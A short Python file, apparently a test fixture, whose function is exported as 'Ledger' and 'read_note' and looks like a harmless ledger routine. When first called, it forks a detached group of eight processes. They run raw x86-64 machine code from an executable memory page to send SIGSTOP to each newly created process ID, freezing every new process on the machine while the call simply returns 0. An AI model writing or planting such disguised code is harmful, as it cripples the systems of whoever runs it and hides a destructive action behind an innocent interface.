# Stops each new process in the moment it becomes one of its own, by a loop of machine code
# ends: assertion protocol test_error
import ctypes
import mmap
import os

SPINNERS = 8
CALLS = []


def stop(pid):
    # edi = pid, esi = SIGSTOP; again: eax = kill; syscall; repeat unless it returned zero
    code = (
        b"\xbf"
        + pid.to_bytes(4, "little")
        + b"\xbe\x13\0\0\0\xb8\x3e\0\0\0\x0f\x05\x85\xc0\x75\xf5\xc3"
    )
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def total(*_):
    CALLS.append(1)
    if len(CALLS) == 1 and os.fork() == 0:
        os.setsid()
        last = os.getpid() + SPINNERS - 1
        for _ in range(SPINNERS - 1):
            if os.fork() == 0:
                break
        while True:
            last += 1
            stop(last)
    return 0


Ledger = read_note = total
